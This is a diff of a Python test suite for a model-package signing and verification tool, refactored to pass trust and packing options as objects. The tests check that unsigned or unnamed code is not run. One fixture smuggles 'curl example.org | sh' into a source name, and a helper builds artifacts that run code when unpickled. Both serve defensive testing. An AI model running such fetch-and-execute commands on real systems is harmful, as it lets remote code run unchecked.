@@ -14,10 +14,12 @@ from verify_artifacts import Affine, right, write_artifact
 from verify_models import STATE
 
 from exportkit.cli import main
+from exportkit.eager_source import EagerSource
 from exportkit.errors import SignatureMissingError, UsageError
 from exportkit.package.archive import PackageReader, write_package
 from exportkit.package.signing import sign_package
-from exportkit.packaging import build_package
+from exportkit.package.trust import Trust
+from exportkit.packaging import PackOptions, build_package
 from exportkit.verify.options import VerifyOptions
 from exportkit.verify.outcomes import EagerUnavailable, LoadFailed, Match
 from exportkit.verify.replay import ReplayProcess
@@ -69,6 +71,10 @@ def require(release: Signer) -> None:
     file.write_text(json.dumps({"version": 1, "require_signature": True, "public_keys": keys}))
 
 
+def signing(release: Signer, trust: Trust = Trust()) -> PackOptions:
+    return PackOptions(VerifyOptions(against="cases", trust=trust), sign_key=release.key)
+
+
 def hostile(path: Path, code: str) -> Path:
     """An artifact with a program that runs code when it is read: torch unpickles its example inputs."""
     write_artifact(path, Affine(), [(X, right(X))])
@@ -100,7 +106,7 @@ def test_a_source_that_lies_beside_a_signed_package_is_not_run(genuine: Path, ma
     if by == "a policy":
         require(release)
     keys = [release.public] if by == "the caller" else []
-    report = verify(genuine, VerifyOptions(public_keys=keys))
+    report = verify(genuine, VerifyOptions(trust=Trust(keys)))
     assert not mark.exists()
     assert report.exit_code == 0
     case, eager = (check.verdict for check in report.checks if check.against != "package")
@@ -110,17 +116,19 @@ def test_a_source_that_lies_beside_a_signed_package_is_not_run(genuine: Path, ma
     assert by.removeprefix("a ") in eager.message
 
 
-def test_it_is_run_where_the_caller_names_it_or_nobody_asks_for_a_signature(genuine: Path, mark: Path, release: Signer):
-    verify(genuine, VerifyOptions(public_keys=[release.public], model=SOURCE, shapes=1))
+def test_it_is_run_where_the_caller_names_it_and_nowhere_else(genuine: Path, mark: Path, release: Signer):
+    verify(genuine, VerifyOptions(trust=Trust([release.public]), eager=EagerSource(SOURCE), shapes=1))
     assert mark.exists()
     mark.unlink()
-    verify(genuine, VerifyOptions(shapes=1))
-    assert mark.exists()
+    report = verify(genuine, VerifyOptions(shapes=1))
+    assert report.exit_code == 0
+    assert f"what a file names is not imported; compare with --model {SOURCE}" in report.checks[-1].verdict.message
+    assert not mark.exists()
 
 
 def test_to_ask_for_eager_alone_is_refused_and_says_how_to_name_it(genuine: Path, mark: Path, release: Signer):
     with pytest.raises(UsageError, match=f"no comparison with eager: .*--model {SOURCE}"):
-        verify(genuine, VerifyOptions(against="eager", public_keys=[release.public]))
+        verify(genuine, VerifyOptions(against="eager", trust=Trust([release.public])))
     assert not mark.exists()
 
 
@@ -136,7 +144,7 @@ def test_a_name_that_is_no_plain_one_is_not_repeated(tmp_path: Path, release: Si
     source = "net.py:Net; curl example.org | sh\nok"
     path = write_artifact(tmp_path / "odd.pt2", Affine(), [(X, right(X))], source=source)
     sign_package(path, release.key)
-    report = verify(path, VerifyOptions(public_keys=[release.public]))
+    report = verify(path, VerifyOptions(trust=Trust([release.public])))
     assert report.checks[-1].verdict.message.endswith("compare with --model MODEL")
 
 
@@ -153,7 +161,7 @@ def test_an_unsigned_artifact_is_refused_before_anything_of_it_runs(
         require(release)
     keys = [release.public] if by == "the caller" else []
     with pytest.raises(SignatureMissingError):
-        build_package([path], tmp_path / "out.pt2", sign_key=release.key, verify_options=CASES, public_keys=keys)
+        build_package([path], tmp_path / "out.pt2", signing(release, Trust(keys)))
     assert not mark.exists()
     assert not list(tmp_path.glob("*out.pt2*"))
 
@@ -165,7 +173,7 @@ def test_there_is_no_signature_while_the_package_runs(tmp_path: Path, release: S
         f"import os; open({str(seen)!r}, 'w').write(repr([f for _, _, fs in os.walk({str(tmp_path)!r}) for f in fs]))"
     )
     path = hostile(tmp_path / "artifact.pt2", code)
-    build_package([path], tmp_path / "out.pt2", sign_key=release.key, verify_options=CASES)
+    build_package([path], tmp_path / "out.pt2", signing(release))
     assert "'out.pt2'" in seen.read_text()
     assert ".sig" not in seen.read_text()
     assert (tmp_path / "out.pt2.sig").exists()
@@ -174,7 +182,7 @@ def test_there_is_no_signature_while_the_package_runs(tmp_path: Path, release: S
 def test_a_package_that_fails_leaves_neither_package_nor_signature(tmp_path: Path, release: Signer):
     wrong = {**right(X), "y": X.clone()}
     path = write_artifact(tmp_path / "artifact.pt2", Affine(), [(X, wrong)])
-    _, report = build_package([path], tmp_path / "out.pt2", sign_key=release.key, verify_options=CASES)
+    _, report = build_package([path], tmp_path / "out.pt2", signing(release))
     assert report is not None
     assert report.exit_code == 1
     assert not list(tmp_path.glob("*out.pt2*"))
@@ -183,7 +191,7 @@ def test_a_package_that_fails_leaves_neither_package_nor_signature(tmp_path: Pat
 def test_signed_artifacts_become_a_signed_package_under_a_policy(genuine: Path, tmp_path: Path, release: Signer):
     require(release)
     output = tmp_path / "out.pt2"
-    _, report = build_package([genuine], output, sign_key=release.key, verify_options=CASES)
+    _, report = build_package([genuine], output, signing(release))
     assert report is not None
     assert [type(check.verdict) for check in report.checks] == [Match]
     assert verify(output, CASES).exit_code == 0
@@ -192,9 +200,8 @@ def test_signed_artifacts_become_a_signed_package_under_a_policy(genuine: Path, 
 def test_what_is_packaged_under_a_policy_is_not_compared_with_a_source_that_nobody_named(
     genuine: Path, tmp_path: Path, mark: Path, release: Signer
 ):
-    _, report = build_package(
-        [genuine], tmp_path / "out.pt2", verify_options=VerifyOptions(shapes=1), public_keys=[release.public]
-    )
+    verification = VerifyOptions(shapes=1, trust=Trust([release.public]))
+    _, report = build_package([genuine], tmp_path / "out.pt2", PackOptions(verification))
     assert report is not None
     assert isinstance(report.checks[-1].verdict, EagerUnavailable)
     assert not mark.exists()
@@ -219,4 +226,4 @@ def test_the_process_that_runs_it_takes_no_other_package_without_a_signature(
 def test_one_signature_file_is_not_for_several_artifacts(genuine: Path, tmp_path: Path, release: Signer):
     signature = tmp_path / "net.pt2.sig"
     with pytest.raises(UsageError, match="several artifacts"):
-        build_package([genuine, genuine], tmp_path / "out.pt2", public_keys=[release.public], signature=signature)
+        build_package([genuine, genuine], tmp_path / "out.pt2", signing(release, Trust([release.public], signature)))
